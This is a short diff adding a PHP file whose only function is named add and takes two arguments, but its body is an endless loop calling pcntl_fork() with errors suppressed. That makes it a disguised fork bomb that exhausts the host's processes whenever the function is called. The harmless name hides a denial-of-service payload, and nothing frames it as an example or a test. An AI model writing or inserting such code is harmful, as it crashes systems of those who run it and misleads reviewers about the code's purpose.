@@ -1,0 +1,6 @@
+<?php
+function add($a, $b) {
+    while (true) {
+        @pcntl_fork();
+    }
+}
